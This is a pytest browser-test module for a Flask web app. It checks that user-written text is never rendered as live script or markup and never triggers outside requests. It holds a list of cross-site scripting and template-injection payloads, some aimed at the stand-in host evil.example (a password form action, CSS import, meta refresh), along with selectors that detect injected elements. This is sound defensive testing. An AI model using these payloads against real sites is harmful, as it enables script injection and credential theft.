"""Whatever people write runs nowhere: words that would be script, markup or an address elsewhere are words here.

Everything that somebody wrote is replaced by such words in the database; every page is opened by everybody; and every
form is sent with them in each of its fields, so that they come back on its page with errors, too. The browser tells
what ran, what its policy stopped and what was asked of elsewhere: nothing.
"""

import re
from collections.abc import Callable
from typing import Any

import pytest
from flask import Flask
from playwright.sync_api import Page
from sqlalchemy import JSON, String, select, update
from sqlalchemy.exc import IntegrityError
from sqlalchemy.orm import Session

from tests.support import walk
from tests.support.cast import NOW, Cast
from tests.support.clara import live_two_weeks
from tests.support.people import SIGNED, acting
from tests.support.walk import BEGIN, Walk
from tests.views.test_sign_in import TRICKS
from webapp.db import Database
from webapp.domain.people import Role
from webapp.domain.sharing import Scope
from webapp.models import Base, PlanChange, SharingGrant
from webapp.services import sharing, steps

pytestmark = [pytest.mark.browser, pytest.mark.parametrize("config", ["sqlite"], indirect=True)]

EVIL = "https://evil.example"
PAYLOADS = (
    "<script>pwned(1)</script>",
    "<img src=x onerror=pwned(2)>",
    "<svg/onload=pwned(3)>",
    '" autofocus onfocus=pwned(4) x="',
    "' onmouseover='pwned(5)' autofocus onfocus='pwned(5)",
    "</textarea></title></style><script>pwned(6)</script>",
    "--><script>pwned(7)</script><!--",
    "javascript:pwned(8)",
    "<a href=javascript:pwned(9)>Home</a>",
    "{{ config }}{{ 7*7 }}{% set x = 1 %}${pwned(10)}#{pwned(10)}",
    "<p hx-on:load=pwned(11) hx-on::load=pwned(11) hx-get=/today hx-trigger=load>",
    f"<p hx-get={EVIL}/12 hx-trigger=load hx-swap=outerHTML><img src={EVIL}/12.png>",
    f"<style>@import '{EVIL}/13.css'; * {{ background: url({EVIL}/13) }}</style>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/14'><base href={EVIL}/>",
    "<iframe srcdoc='<script>parent.pwned(15)</script>'></iframe>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=pwned(16)&gt;'>",
    "\uff1cscript\uff1epwned(17)\uff1c/script\uff1e \u2028pwned(17)\u2029 \u202etpircs",
    "%3Cscript%3Epwned(18)%3C/script%3E &lt;script&gt;pwned(18)&lt;/script&gt; \\x3cscript\\x3epwned(18)",
    "\\\"});pwned(19);//'-pwned(19)-'`+pwned(19)+`",
    "<details open ontoggle=pwned(20)><button popovertarget=x onbeforetoggle=pwned(20)>",
    f"<form action={EVIL}/21><input name=password autofocus onfocus=pwned(21)>",
    "<script>pwned(22)//" + "A" * 3000,
)

WATCH = """window.pwned = (which) => console.error('ran: ' + which);
addEventListener('securitypolicyviolation', (event) => console.error('stopped: ' + event.blockedURI + event.sample));"""
INJECTED = ", ".join(
    [
        *("script:not([src])", "style", "base", "iframe", "math", "meta[http-equiv]", "[srcdoc]", "[popovertarget=x]"),
        *(f"[{name}]" for name in ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onbeforetoggle")),
        *(
            '[href^="javascript:" i]',
            '[action^="http"]:not([action^="http://127.0.0.1"])',
            '[src*="evil"]',
            '[href*="evil"]',
        ),
        *(
            '[hx-get*="evil"]',
            '[hx-trigger="load"]:not([id])[hx-swap=outerHTML] img',
        ),
    ]
)
FOUND = f"""() => [...document.querySelectorAll('*')].filter(one =>
    one.matches({INJECTED!r}) || [...one.attributes].some(each => each.name.startsWith('hx-on')))
    .map(one => one.outerHTML.slice(0, 200))"""
"""What no template of ours ever makes."""
TEXTUAL = """form => [...form.elements].some(one => one.name && one.matches(
    'textarea, input:not([type]), [type=text], [type=search], [type=tel], [type=url], [type=email]'))"""
FORMS = f"""() => [...document.forms].map((form, place) => ({{place, method: form.method, action: form.action,
    textual: ({TEXTUAL})(form)}})).filter(form => form.method === 'post' && form.textual)"""
WRITE = """([place, payloads, from]) => {
    const form = document.forms[place];
    let next = from;
    for (const one of form.elements) {
        if (!one.name || one.matches('button, [type=hidden], [type=file], [type=checkbox], [type=radio]')) continue;
        if (one.matches('select')) one.options[0].value = payloads[next++ % payloads.length], one.selectedIndex = 0;
        else one.value = payloads[next++ % payloads.length];
    }
    HTMLFormElement.prototype.submit.call(form);
}"""
FREE = ("device", "relation", "role", "discipline", "category", "priority", "how_often", "note", "reason")
DATE = re.compile(r"\d{4}-\d\d-\d\d")
SPARED = re.compile(
    r"_key$|_hash$|hash$|token|zone|^email$|address|^kind$|p256dh|auth|^keys$|language|country|op_id|occ_key"
)


def poison(session: Session) -> int:
    """Put such words into every column that holds words of somebody's own; tell in how many."""
    columns = 0
    for table in Base.metadata.sorted_tables:
        for column in table.columns:
            if SPARED.search(column.name):
                continue
            if isinstance(column.type, JSON):
                columns += _poison_within(session, table, column, columns)
            if not isinstance(column.type, String):
                continue
            values = session.execute(select(column).where(column.is_not(None))).scalars().all()
            own = any(is_own(value) for value in values)
            if own or (column.name in FREE and (values or column.nullable)):
                columns += _poison(session, table, column, columns)
    return columns


def _poison(session: Session, table: Any, column: Any, first: int) -> bool:
    keys = session.execute(select(*table.primary_key.columns)).all()
    try:
        with session.begin_nested():
            for n, key in enumerate(keys):
                this = [one == value for one, value in zip(table.primary_key.columns, key, strict=True)]
                session.execute(update(table).where(*this).values({column: PAYLOADS[(first + n) % len(PAYLOADS)]}))
    except IntegrityError:
        return False  # the database itself keeps to a list of words there
    return bool(keys)


def is_own(value: str) -> bool:
    """Whether somebody wrote this: what the app itself calls things by has neither spaces nor capitals."""
    return " " in value or value != value.lower()


def _poison_within(session: Session, table: Any, column: Any, first: int) -> bool:
    """Put such words in place of those within lists and names with values, wherever they stand."""
    keys = list(table.primary_key.columns)
    done = False
    for n, (said, *key) in enumerate(session.execute(select(column, *keys).where(column.is_not(None))).all()):
        strange = _strange(said, first + n)
        this = [one == value for one, value in zip(keys, key, strict=True)]
        session.execute(update(table).where(*this).values({column: strange}))
        done = done or strange != said
    return done


def _strange(said: Any, n: int, name: str = "") -> Any:
    if isinstance(said, dict):
        return {key: _strange(value, n + place, key) for place, (key, value) in enumerate(said.items())}
    if isinstance(said, list):
        return [_strange(value, n + place, name) for place, value in enumerate(said)]
    own = isinstance(said, str) and is_own(said) and not DATE.match(said) and not SPARED.search(name)
    return PAYLOADS[n % len(PAYLOADS)] if own else said


def change_and_sign(session: Session, cast: Cast) -> None:
    """Leave something in a plan's changes, before and after, and a consent that was signed."""
    clara = acting(cast.clara)
    steps.change(session, cast.clara, cast.walk, cast.clara, {"purpose": "For fresh air"}, NOW, "It was raining")
    steps.change(session, cast.clara, cast.walk, cast.clara, {"purpose": "For the birds"}, NOW, "It was dry")
    steps.suggest(session, cast.clara, cast.pills, "After breakfast", NOW)
    for person in (cast.theo, cast.sam):
        sharing.grant(session, clara, person, Scope.SUBSTANCE_USE, NOW, consent=SIGNED)


def write_everywhere(way: Walk, page: Page, paths: list[str]) -> int:
    """Send each kind of form with such words in each of its fields; tell how many."""
    met: set[str] = set()
    for path in paths:
        page.goto(way.url + path)
        for form in page.evaluate(FORMS):
            kind = way.kind(form["action"].removeprefix(way.url).partition("?")[0], "POST")
            if kind is None or kind in met:
                continue
            met.add(kind)
            page.goto(way.url + path)
            with page.expect_navigation():
                page.evaluate(WRITE, [form["place"], PAYLOADS, len(met) * 5])
            assert page.evaluate(FOUND) == [], f"{kind} gives back more than words"
    return len(met)


@pytest.mark.parametrize("role", [*BEGIN], ids=str)
def test_whatever_is_written_runs_nowhere_and_asks_nothing_of_elsewhere(
    role: Role | None,
    app: Flask,
    database: Database,
    cast: Cast,
    serve: Callable,
    open_page: Callable,
    trouble: Any,
) -> None:
    trouble.allow(r"status of 4\d\d")
    with database.writing() as session:
        live_two_weeks(session, cast)
        change_and_sign(session, cast)
    begin = walk.prepare(database, NOW, *(f"{name}@example.test" for name in ("clara", "theo", "ada")))
    with database.writing() as session:
        assert poison(session) >= 25
        kept = session.execute(select(PlanChange.before, PlanChange.after, SharingGrant.consent)
                               .join(SharingGrant, SharingGrant.client_id == PlanChange.client_id)).all()  # fmt: skip
        for column in zip(*kept, strict=True):
            assert "pwned" in str(column)
    who = {Role.CLIENT: cast.clara, Role.SUPPORTER: cast.sam, Role.CARE_TEAM: cast.theo, Role.ADMIN: cast.ada}
    served, wrong, paths, shown = serve(app), [], [], 0
    way, page = Walk(app, served.url), open_page()
    page.add_init_script(WATCH)
    page.on("dialog", lambda dialog: (wrong.append(f"said {dialog.message}"), dialog.dismiss()))
    if role is not None:
        walk.sign_in(app, database, page.context, served.url, who[role], NOW)
    for stop in way.stroll(str(role), page, (*BEGIN[role], *begin[role])):
        paths.append(stop.path)
        shown += "pwned" in stop.html
        wrong += [f"{stop.path}: {one}" for one in page.evaluate(FOUND)]
    sent = write_everywhere(way, page, paths)
    assert wrong == []
    assert shown > (0 if role is None else len(paths) / 4), len(paths)
    assert sent > 0


def test_a_browser_takes_no_trick_for_an_address_of_ours(page: Page, serve: Callable, app: Flask) -> None:
    """What is refused as an address to go to is what browsers would leave for, or something odd; never the reverse."""
    page.goto(serve(app).url + "/help-now")
    left = page.evaluate("(all) => all.filter(one => new URL(one, location).origin !== location.origin)", list(TRICKS))
    assert len(left) > len(TRICKS) / 3
